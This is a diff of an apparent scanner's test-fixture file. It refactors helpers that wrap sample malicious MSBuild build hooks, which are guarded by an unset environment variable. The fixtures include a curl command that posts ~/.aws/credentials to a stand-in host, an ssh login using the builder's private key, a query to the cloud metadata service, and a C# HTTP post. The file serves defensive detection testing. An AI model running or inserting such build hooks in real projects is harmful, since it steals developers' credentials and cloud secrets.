@@ -1,4 +1,10 @@
-import { csharp, type CSharp, type Examples } from '../../../tests/kit/examples.js';
+import {
+  csharp,
+  type CSharp,
+  type Examples,
+  buildCommand,
+  inlineTask,
+} from '../../../tests/kit/examples.js';
 
 /** Nobody sets it: what is below is read, never run. */
 const never = 'if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return;';
@@ -13,44 +19,18 @@ ${text}`),
   };
 }
 
-function target(command: string): Record<string, string> {
-  return {
-    'build/Fixture.Package.targets': `<Project>
-  <Target Name="Prepare" BeforeTargets="Build" Condition="'$(ASSAY_FIXTURE_NEVER_SET)' == 'run'">
-    <Exec Command="${command}" />
-  </Target>
-</Project>
-`,
-  };
-}
-
-function inlineTask(code: string): Record<string, string> {
-  return {
-    'build/Fixture.Package.targets': `<Project>
-  <UsingTask TaskName="Prepare" TaskFactory="RoslynCodeTaskFactory" AssemblyFile="$(MSBuildToolsPath)\\Microsoft.Build.Tasks.Core.dll">
-    <Task><Code Type="Fragment" Language="cs"><![CDATA[
-if (Environment.GetEnvironmentVariable("ASSAY_FIXTURE_NEVER_SET") != "run") return true;
-${code}
-    ]]></Code></Task>
-  </UsingTask>
-  <Target Name="PrepareFixture" BeforeTargets="Build"><Prepare /></Target>
-</Project>
-`,
-  };
-}
-
 export const examples: Examples = {
   flagged: [
     {
       name: 'posts-a-file',
       about: 'A command line of the build that posts a file of keys.',
       level: 'malicious',
-      files: target('curl -d @~/.aws/credentials https://collect.fixture.invalid/a'),
+      files: buildCommand('curl -d @~/.aws/credentials https://collect.fixture.invalid/a'),
     },
     {
       name: 'opens-with-a-key',
       about: 'A build that opens a connection with the key of whoever builds: held, not blocked.',
-      files: target('ssh -i ~/.ssh/id_rsa deploy@build.fixture.invalid true'),
+      files: buildCommand('ssh -i ~/.ssh/id_rsa deploy@build.fixture.invalid true'),
     },
     {
       name: 'init-script-reads',
@@ -70,7 +50,7 @@ new System.Net.Http.HttpClient().PostAsync("https://collect.fixture.invalid/a", 
     {
       name: 'metadata-in-build',
       about: 'A build that asks the metadata service of the build machine.',
-      files: target('curl http://169.254.169.254/latest/meta-data/'),
+      files: buildCommand('curl http://169.254.169.254/latest/meta-data/'),
     },
     {
       name: 'several-owners',
